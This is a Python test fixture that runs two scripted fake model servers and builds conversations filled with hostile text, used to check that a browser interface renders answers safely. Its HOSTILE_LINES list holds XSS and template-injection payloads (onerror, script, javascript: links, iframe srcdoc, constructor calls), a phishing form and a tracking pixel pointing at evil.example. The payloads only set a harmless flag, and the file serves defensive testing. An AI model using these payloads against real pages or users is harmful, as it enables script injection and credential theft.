"""Remote engines whose answers a test writes, and stored conversations full of hostile text."""

from __future__ import annotations

import asyncio
import threading
from collections.abc import Coroutine
from dataclasses import replace
from types import TracebackType
from typing import Any

from components.core.traces import Trace
from tests.data.traces import answered_turn
from tests.fakes.fake_vllm import Fake, Options

FLAG = "window.diptychWasFooled"
HOSTILE_LINES = (
    f"<img src=x onerror={FLAG}=1>",
    f"<script>{FLAG}=1</script><svg onload={FLAG}=1>",
    "${" + FLAG + "=1}`${" + FLAG + "=1}`",
    f"[click me](javascript:{FLAG}=1)",
    "![pixel](http://evil.example/pixel.png) ![relative](/media/x.png)",
    f'<a href="javascript:{FLAG}=1">a</a><iframe srcdoc="<script>parent.{FLAG[7:]}=1</script>"></iframe>',
    "<form action=http://evil.example><input name=x><button>Sign in</button></form>",
    '<style>body{display:none}</style><p style="position:fixed;inset:0">cover</p>',
    "{{constructor.constructor('" + FLAG + "=1')()}} {{{value}}} \u202eright to left",
    "<https://evil.example> http://evil.example/auto <math><mtext></math>",
)
HOSTILE = "\n\n".join(HOSTILE_LINES)
SEEING = {"What colour": "The picture is RED.", "Which shape": "The shape is a circle.", "Which digit": "It is seven."}
MARKDOWN = "**bold** and `code`\n\n- one\n- two"
USUAL = Options(answers={**SEEING, "Be hostile": HOSTILE, "Be pretty": MARKDOWN}, blank_answer="There is nothing.")

_PROFILE = """
schema_version: 1
kind: pair
id: scripted
title: Scripted pair
description: Two endpoints whose answers the browser tests write.
vision: true
max_image_size: 512
max_images: 4
models:
- id: base
  role: base
  label: Scripted base
  scheme: BF16
  source: {{kind: remote, url: "http://127.0.0.1:{base}/v1", served_model: served-base}}
  description: Answers what a test wrote.
- id: slow
  role: candidate
  label: Scripted slow
  scheme: W4A16
  source: {{kind: remote, url: "http://127.0.0.1:{slow}/v1", served_model: served-slow}}
  description: Answers what a test wrote.
examples:
- {{image: assets/samples/four-shapes.png, prompt: "Describe the picture."}}
- {{prompt: "What can you answer questions about?"}}
"""


class ScriptedEngines:
    """Two scripted servers, on an event loop of their own beside the test."""

    def __init__(self) -> None:
        self.base = Fake(USUAL, "served-base", None)
        self.slow = Fake(USUAL, "served-slow", None)
        self._loop = asyncio.new_event_loop()
        self._thread = threading.Thread(target=self._loop.run_forever, daemon=True)
        self._servers: list[asyncio.Server] = []

    def __enter__(self) -> ScriptedEngines:
        self._thread.start()
        self._servers = [
            self._run(asyncio.start_server(fake.handle, "127.0.0.1", 0)) for fake in (self.base, self.slow)
        ]
        return self

    def __exit__(self, kind: type[BaseException] | None, exc: BaseException | None, at: TracebackType | None) -> None:
        for server in self._servers:
            self._loop.call_soon_threadsafe(server.close)
        self._loop.call_soon_threadsafe(self._loop.stop)
        self._thread.join(10)

    def _run(self, work: Coroutine[Any, Any, asyncio.Server]) -> asyncio.Server:
        return asyncio.run_coroutine_threadsafe(work, self._loop).result(10)

    def profile(self) -> str:
        """A pair profile that names both."""
        base, slow = (server.sockets[0].getsockname()[1] for server in self._servers)
        return _PROFILE.format(base=base, slow=slow)

    def reset(self) -> None:
        """Both answer at once again."""
        self.base.options = self.slow.options = USUAL

    def slow_down(self, **options: Any) -> None:
        """The second engine takes its time: about 20 s for an answer, unless said otherwise."""
        self.slow.options = replace(USUAL, **{"ttft_s": 0.2, "itl_s": 0.25, "tokens": 80, **options})


def hostile_traces() -> list[Trace]:
    """A conversation of two turns, hostile in every text that a stranger could have written."""
    first = answered_turn("hostile1", texts=(HOSTILE, HOSTILE), prompt=HOSTILE, system=HOSTILE, images=())
    second = answered_turn(
        "hostile2", texts=(HOSTILE, MARKDOWN), prompt=HOSTILE_LINES[0], images=(), parent_id="hostile1"
    )
    return [first, second]
